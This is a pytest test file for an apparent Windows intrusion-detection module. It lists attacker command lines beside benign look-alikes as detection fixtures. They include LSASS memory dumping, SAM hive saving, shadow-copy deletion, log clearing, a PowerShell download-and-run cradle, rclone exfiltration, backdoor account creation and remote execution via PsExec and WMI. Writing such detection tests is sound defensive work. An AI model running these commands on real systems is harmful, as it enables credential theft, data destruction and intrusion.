"""Commands that betray an attacker, each with an everyday command that looks alike."""

from __future__ import annotations

import pytest

from hikeshi.trace import programs
from hikeshi.trace.signals import METHODS, SIGNALS

S32 = "C:\\Windows\\System32\\"
CMD, PS, EXPLORER = S32 + "cmd.exe", S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


@pytest.mark.parametrize(
    ("image", "command", "parent", "signal"),
    [
        (PS, "powershell.exe -nop", WORD, "office_child"),
        ("C:\\Windows\\splwow64.exe", "splwow64.exe 12288", WORD, None),
        (CMD, "cmd /c dir", S32 + "inetsrv\\w3wp.exe", "web_child"),
        (CMD, "cmd /c dir", EXPLORER, None),
        (CMD, "cmd /c whoami", "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe", "sql_child"),
        (
            S32 + "rundll32.exe",
            "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 640 o.dmp full",
            CMD,
            "lsass_dump",
        ),
        (S32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl", EXPLORER, None),
        ("C:\\t\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe l.dmp", CMD, "lsass_dump"),
        ("C:\\t\\procdump64.exe", "procdump64.exe -ma myapp.exe a.dmp", CMD, None),
        (S32 + "reg.exe", "reg save HKLM\\SAM s.hiv", CMD, "credential_dump"),
        (S32 + "reg.exe", "reg query HKLM\\Software\\Foo", CMD, None),
        (S32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet", CMD, "shadow_delete"),
        (S32 + "vssadmin.exe", "vssadmin list shadows", CMD, None),
        (S32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled No", CMD, "shadow_delete"),
        (S32 + "bcdedit.exe", "bcdedit /enum", CMD, None),
        (S32 + "wevtutil.exe", "wevtutil cl Security", CMD, "log_clear"),
        (S32 + "wevtutil.exe", "wevtutil qe Security /c:5", CMD, None),
        (CMD, "cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", S32 + "wbem\\WmiPrvSE.exe", "remote_shell"),
        (PS, "powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", EXPLORER, "encoded_command"),
        (PS, "powershell -ExecutionPolicy Bypass -File C:\\Scripts\\a.ps1", EXPLORER, None),
        (PS, "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')", EXPLORER, "download"),
        (CMD, "cmd /c whoami", S32 + "wbem\\WmiPrvSE.exe", "wmi_child"),
        (CMD, "cmd /c whoami", S32 + "wsmprovhost.exe", "winrm_child"),
        ("C:\\a\\7z.exe", "7z.exe a -v2g C:\\PerfLogs\\d.7z D:\\Shares", CMD, "archive"),
        ("C:\\a\\7z.exe", "7z.exe x d.7z", CMD, None),
        ("C:\\t\\rclone.exe", "rclone.exe copy D:\\ x:y", CMD, "exfil_tool"),
        (S32 + "net.exe", "net user help1 Pw! /add", CMD, "account_added"),
        (S32 + "net.exe", "net use F: \\\\FS01\\share", CMD, None),
        (S32 + "mstsc.exe", "mstsc.exe /v:SRV2", EXPLORER, "remote_exec_client"),
    ],
)
def test_a_command_gives_its_signal(image, command, parent, signal):
    assert programs.program_signal(image, command, parent) == signal


@pytest.mark.parametrize(
    ("command", "aim"),
    [
        ("PsExec64.exe -accepteula \\\\FS01 -s cmd", ("FS01", "psexec_service")),
        ("wmic /node:10.0.0.5 process call create calc", ("10.0.0.5", "wmi")),
        ("winrs -r:srv2 ipconfig", ("srv2", "winrm")),
        ("powershell Invoke-Command -ComputerName SRV3 -ScriptBlock {1}", ("SRV3", "winrm")),
        ("schtasks /create /s DC01 /tn x /tr y", ("DC01", "scheduled_task")),
        ("sc \\\\APP1 create evil binPath= c:\\x.exe", ("APP1", "service")),
        ("copy a.exe \\\\FS01\\c$\\temp", ("FS01", "smb")),
        ("copy a.txt \\\\FS01\\share\\b.txt", None),
        ("wmic process list", None),
        ("psexec \\\\localhost cmd", None),
    ],
)
def test_a_command_line_names_its_target(command, aim):
    assert programs.remote_target(command) == aim


@pytest.mark.parametrize(
    ("name", "path", "signal"),
    [
        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "psexec"),
        ("AnyDesk Service", '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', "remote_tool"),
        ("kTbx", "%COMSPEC% /Q /c echo cd", "command_service"),
        ("qwer", "C:\\Windows\\QwErTy.exe", "odd_service"),
        ("upd", "C:\\Windows\\Temp\\u.exe -svc", "odd_service"),
        ("BackupAgent", '"C:\\Program Files\\Backup\\agent.exe"', None),
        ("BITS", "C:\\Windows\\system32\\svchost.exe -k netsvcs", None),
        ("drv", "\\SystemRoot\\System32\\drivers\\drv.sys", None),
    ],
)
def test_a_service_is_judged_by_name_and_path(name, path, signal):
    assert programs.service_signal(name, path) == signal


def test_a_task_is_judged_by_its_action_not_by_its_being_a_script():
    hidden = "<Exec><Command>powershell.exe</Command><Arguments>-w hidden -f a.ps1</Arguments></Exec>"
    usual = "<Exec><Command>powershell.exe</Command><Arguments>-File C:\\Scripts\\quota.ps1</Arguments></Exec>"
    assert programs.task_signal("x", hidden) == "odd_task"
    assert programs.task_signal("x", usual) is None


@pytest.mark.parametrize(
    ("image", "access", "dumps"),
    [
        ("C:\\t\\m.exe", "0x1010", True),
        ("C:\\t\\m.exe", "0x1fffff", True),
        ("C:\\t\\m.exe", "0x1000", False),
        ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "0x1fffff", False),
        ("C:\\t\\m.exe", "nonsense", False),
    ],
)
def test_reading_lsass_needs_the_right_to_read_memory(image, access, dumps):
    assert programs.lsass_access(image, access) is dumps


@pytest.mark.parametrize(
    ("path", "by", "signal"),
    [
        ("C:\\Users\\Public\\HOW_TO_DECRYPT.txt", "C:\\x.exe", "ransom_note"),
        ("C:\\app\\README.txt", "C:\\x.exe", None),
        ("C:\\inetpub\\wwwroot\\up\\a.aspx", S32 + "inetsrv\\w3wp.exe", "web_shell_file"),
        ("C:\\inetpub\\wwwroot\\up\\a.aspx", "C:\\Program Files\\Deploy\\msdeploy.exe", None),
        ("C:\\PerfLogs\\d.7z", "C:\\7z.exe", "archive"),
        ("D:\\own\\d.7z", "C:\\7z.exe", None),
    ],
)
def test_a_written_file_gives_its_signal(path, by, signal):
    assert programs.file_signal(path, by) == signal


def test_every_signal_and_method_speaks_both_languages():
    for text in [s.says for s in SIGNALS.values()] + [t for _, t in METHODS.values()]:
        assert text.ja and text.en and not text.en.endswith(".")


@pytest.mark.parametrize(
    "piece", ["copy \\\\", "reg save ", "-e A", "curl -T ", "net user ", "lsass rundll32 ", "a" * 40, "\\\\h\\"]
)
def test_a_command_made_to_be_slow_comes_to_an_end(piece):
    text = piece * (40_000 // len(piece))
    programs.program_signal(CMD, text, EXPLORER)
    programs.remote_target(text)
    programs.archive_path(text)
